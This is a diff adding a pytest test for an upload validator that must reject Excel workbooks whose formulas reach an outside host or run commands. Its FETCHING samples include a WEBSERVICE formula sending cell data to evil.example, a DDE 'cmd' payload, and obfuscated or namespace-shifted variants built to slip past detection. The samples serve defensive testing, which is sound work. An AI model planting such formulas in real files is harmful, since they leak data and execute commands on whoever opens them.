@@ -350,6 +350,28 @@ def test_to_send_a_workbook_that_does_something_as_it_opens(
     assert StoredFile.objects.count() == kept + 1
 
 
+FETCHING = {
+    "an address": '<f>_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)</f>',
+    "a picture": '<f>IF(1,_xlfn.IMAGE("http://evil.example/a.png"),"")</f>',
+    "a command": "<f>cmd|'/c calc'!A0</f>",
+    "in pieces": '<f>WEB<!-- x -->SERV&#73;CE<![CDATA[(]]>"http://evil.example")</f>',
+    "another prefix": '<x:f xmlns:x="y">webservice ("http://evil.example")</x:f>',
+    "a name": '<definedName name="n">RTD("a","b","c")</definedName>',
+}
+HARMLESS = '<f>SUM(A1:A9)&amp;"IMAGE(|"&amp;\'Image (2)\'!B1</f><t>=WEBSERVICE("http://evil.example")</t>'
+
+
+@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/autre.bin"])
+@pytest.mark.parametrize("written", FETCHING.values(), ids=FETCHING.keys())
+def test_to_send_a_workbook_whose_formula_asks_something_of_elsewhere(written: str, part: str) -> None:
+    """Computed at whoever opens it, it tells where and by whom, with the cells beside it; words in a cell do nothing."""
+    for encoding in ("utf-8", "utf-16"):
+        with pytest.raises(uploads.Unwelcome):
+            uploads.examined(workbook_with({part: f"<c>{written}</c>".encode(encoding)}), kind="xlsx")
+    plain = workbook_with({part: f"<c>{HARMLESS}</c>", "xl/media/a.png": b"\x89PNG\r\n<f>RTD("})
+    assert uploads.examined(plain, kind="xlsx") == plain
+
+
 def workbook_with(parts: Mapping[str, str | bytes]) -> bytes:
     """Return a workbook with parts of one's own."""
     written = io.BytesIO()
